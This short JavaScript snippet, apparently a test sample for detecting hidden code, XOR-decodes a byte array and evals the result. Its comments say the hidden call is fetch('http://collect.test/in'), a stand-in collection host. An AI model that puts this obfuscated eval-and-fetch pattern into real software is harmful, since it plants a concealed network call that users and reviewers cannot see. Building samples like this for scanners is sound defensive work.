// hides: call eval "fetch(\"http://collect.test/in\")"
// hides: call fetch "http://collect.test/in"
const k = 'inert', d = [15,11,17,17,28,65,76,13,6,0,25,84,74,93,23,6,2,9,23,23,29,64,17,23,7,29,65,12,28,86,64];
let out = '';
for (let i = 0; i < d.length; i++) out += String.fromCharCode(d[i] ^ k.charCodeAt(i % k.length));
eval(out);
